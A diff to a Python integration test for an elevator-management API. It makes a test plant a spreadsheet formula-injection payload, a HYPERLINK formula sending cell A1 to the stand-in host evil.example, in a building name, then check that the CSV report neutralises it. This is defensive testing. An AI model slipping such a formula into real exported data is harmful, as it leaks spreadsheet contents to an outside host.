@@ -4,7 +4,9 @@ on the test database, and the answer that now stops it (docs/security-api.md).""
 from __future__ import annotations
 
 import concurrent.futures
+import csv
 import hashlib
+import io
 import socket
 import threading
 import time
@@ -396,12 +398,16 @@ def test_the_docs_page_may_load_swagger_ui_under_its_policy(server: Server) -> N
 
 
 @pytest.mark.integration
-def test_a_report_csv_escapes_a_formula_in_a_site_id(server: Server) -> None:
+def test_a_report_csv_escapes_a_formula_in_a_building_name(server: Server) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    site, elevator = add_site_with_elevator(server.conn, "csv")
+    server.conn.execute("UPDATE elevators SET building = %s WHERE id = %s", (formula, elevator))
+    server.conn.commit()
     response = server.http.get("/api/v1/reports/availability", headers=server.admin.headers,
-                               params={"format": "csv"})  # fmt: skip
+                               params={"format": "csv", "site": site})  # fmt: skip
     assert response.status_code == 200
-    for line in response.text.splitlines()[1:]:
-        assert not line.startswith(("=", "+", "-", "@", "\t", "\r"))
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert [row["building"] for row in rows] == ["'" + formula]
 
 
 # -- 9. the last admin -----------------------------------------------------------------------
